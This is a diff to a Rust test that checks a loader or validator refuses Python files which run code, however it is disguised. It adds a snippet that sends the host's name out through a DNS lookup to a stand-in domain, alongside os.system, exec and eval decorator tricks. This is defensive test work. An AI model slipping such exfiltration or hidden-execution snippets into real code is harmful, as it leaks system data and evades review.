@@ -40,6 +40,10 @@ fn programs_that_a_model_runs_are_refused_however_they_are_named() {
         ("x.py", "import os\nclass A:\n    x = os.system('echo inert')\n"),
         ("x.py", "import os\ndef f(x=os.system('echo inert')):\n    pass\n"),
         ("x.py", "import os\n@os.system\n@(lambda f: 'echo inert')\ndef f(): pass"),
+        (
+            "x.py",
+            "import os, socket\nsocket.gethostbyname(os.uname().nodename + '.x.invalid.example')",
+        ),
         ("modeling_x.py", "@exec\n@input\nclass X: pass"),
         ("modeling_x.py", "@eval\n@'print(1)'.format\nclass X: pass"),
         ("x.py", "import os\ndef setup():\n    os.system('echo inert')\nsetup()\n"),
